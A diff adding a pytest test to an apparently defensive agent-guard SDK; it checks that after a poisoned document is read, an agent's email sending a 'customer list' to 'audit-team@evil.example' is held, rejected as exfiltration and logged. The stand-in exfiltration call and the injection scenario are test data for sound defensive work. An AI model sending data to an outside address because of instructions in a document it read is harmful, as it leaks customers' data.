@@ -303,3 +303,52 @@ def test_provenance_is_bounded() -> None:
     p.untrusted("b", "b", "s")
     p.untrusted("c", "c", "s")
     assert p.snapshot("a") == ([], [])
+
+
+def test_kansa_tool_end_to_end_held_rejected_and_on_the_record(led: Ledger) -> None:
+    """The SDK's tool steps run the stage: the document's result is untrusted, the mail
+    it asked for is held, a rejection refuses the resumed call, and the ledger has it."""
+    import kansa
+    from kansa.errors import PolicyBlocked
+
+    pipe = Pipeline([AgentGuardStage(CFG)])
+    sent: list[Any] = []
+
+    @kansa.tool("read_document", ledger=led, pipeline=pipe, system="mailer")
+    def read_document(path: str) -> str:
+        return POISON
+
+    @kansa.tool("send_email", ledger=led, pipeline=pipe, system="mailer")
+    def send_email(to: str, body: str) -> str:
+        sent.append(to)
+        return "sent"
+
+    with kansa.context(conversation_id="conv-e2e"):
+        assert read_document("q3.txt") == POISON
+        with pytest.raises(PolicyBlocked) as held:
+            send_email("audit-team@evil.example", "customer list")
+        aid = held.value.approval_id
+        assert aid and held.value.decision == "approval_required"
+        ap = Approvals.for_ledger(led)
+        a = ap.get(aid)
+        assert a is not None and a.tool == "send_email" and a.system == "mailer"
+        assert a.arguments == {"to": "audit-team@evil.example", "body": "customer list"}
+        ap.reject(aid, by="security", reason="exfiltration to an outside address")
+        with kansa.context(approval=aid), pytest.raises(PolicyBlocked, match="rejected"):
+            send_email("audit-team@evil.example", "customer list")
+        # a mail to the company's own domain, with nothing copied from the document, goes
+        assert send_email("boss@example.co.jp", "Q3 summary: strong") == "sent"
+    assert sent == ["boss@example.co.jp"]
+    entries = [r.entry for r in led.find()]
+    tools = [e for e in entries if e["kind"] == "tool.call"]
+    assert [(e["gen_ai.tool.name"], e["outcome"]) for e in tools] == [
+        ("read_document", "ok"), ("send_email", "blocked"), ("send_email", "blocked"),
+        ("send_email", "ok")]
+    assert tools[0]["attributes"][ATTR.UNTRUSTED] == "tool:read_document"
+    h = tools[1]["attributes"]
+    assert h[ATTR.DECISION] == "approval_required" and h["kansa.policy.approval"] == aid
+    assert h[ATTR.TAINT_SOURCES] == ["tool:read_document"]
+    (dec,) = [e for e in entries if e["kind"] == "kansa.event"]
+    assert dec["attributes"]["kansa.approval.decision"] == "rejected"
+    assert dec["attributes"]["kansa.approval.held_record"] == tools[1]["id"]
+    led.verify()
